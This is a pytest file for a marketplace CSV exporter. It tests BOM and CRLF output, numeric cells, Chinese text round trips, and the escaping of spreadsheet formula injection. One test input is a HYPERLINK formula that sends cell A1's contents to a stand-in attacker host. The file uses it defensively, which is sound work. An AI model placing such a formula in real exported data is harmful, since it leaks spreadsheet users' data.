"""The spreadsheet-safe CSV writer: BOM, CRLF, formulas in user text neutralised, numbers left numeric,
and Chinese text that survives a round trip through a CSV reader."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from marketplace.csv_export import BOM, FORMULA_STARTS, cell, iter_csv, neutralise, to_csv


def read_back(data: bytes) -> list[list[str]]:
    """What a CSV reader sees: decoded with ``utf-8-sig`` (which drops the BOM), as Excel does."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_file_starts_with_a_utf8_bom_and_every_line_ends_in_crlf():
    data = to_csv(["lot_id", "county"], [["L-1", "盐源县"], ["L-2", "锦江区"]])
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8")
    assert text.count("\r\n") == 3
    assert "\n" not in text.replace("\r\n", "")
    assert text.endswith("\r\n")


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"点击")', '\'=HYPERLINK("http://evil.example/?"&A1,"点击")'),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@x", "'@x"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("=1+1", "'=1+1"),
        ("＝1+1", "'＝1+1"),  # the full-width equals sign of CJK input methods
    ],
)
def test_text_beginning_with_a_formula_character_gets_an_apostrophe(typed, written):
    assert read_back(to_csv(["name"], [[typed]]))[1] == [written]


def test_ordinary_text_and_text_with_formula_characters_inside_are_unchanged():
    for text in ["王小明", "a=b", "1-2", "凉山州 = 川西南", "email@example.com", ""]:
        assert neutralise(text) == text
        assert read_back(to_csv(["name"], [[text]]))[1] == [text]


def test_numbers_stay_numbers_and_are_not_quoted_even_when_negative():
    text = to_csv(["amount_fen", "percent", "note"], [[-500, Decimal("12.50"), "-500"]]).decode("utf-8")
    assert text.splitlines()[1] == '-500,12.50,"\'-500"'


def test_separators_and_quotes_inside_text_stay_inside_their_cell():
    row = ['a,b;c"d', "第一行\n=第二行", None, True, date(2026, 11, 24)]
    assert read_back(to_csv(list("abcde"), [row]))[1] == [
        'a,b;c"d',
        "第一行\n=第二行",
        "",
        "true",
        "2026-11-24",
    ]


def test_a_header_cell_is_neutralised_too():
    assert read_back(to_csv(["=cmd", "ok"], []))[0] == ["'=cmd", "ok"]


def test_cells_are_typed_explicitly():
    assert cell(None) == ""
    assert cell(False) == "false"
    assert cell(7) == 7
    assert cell(datetime(2026, 11, 24, 9, 0, tzinfo=UTC)) == "2026-11-24T09:00:00+00:00"


def test_streaming_gives_the_bom_once_then_one_chunk_per_row():
    chunks = list(iter_csv(["a"], [["x"], ["y"]]))
    assert chunks[0].startswith(BOM)
    assert [chunk.startswith(BOM) for chunk in chunks] == [True, False, False]
    assert len(chunks) == 3


@given(st.lists(st.text(min_size=0, max_size=30), min_size=1, max_size=5))
def test_any_text_round_trips_with_at_most_a_leading_apostrophe_and_never_starts_a_formula(texts):
    [_, row] = read_back(to_csv([f"c{i}" for i in range(len(texts))], [texts]))
    for original, back in zip(texts, row, strict=True):
        assert back[:1] not in FORMULA_STARTS or back == ""
        assert back == original or back == "'" + original
        assert (back != original) == (original[:1] in FORMULA_STARTS)
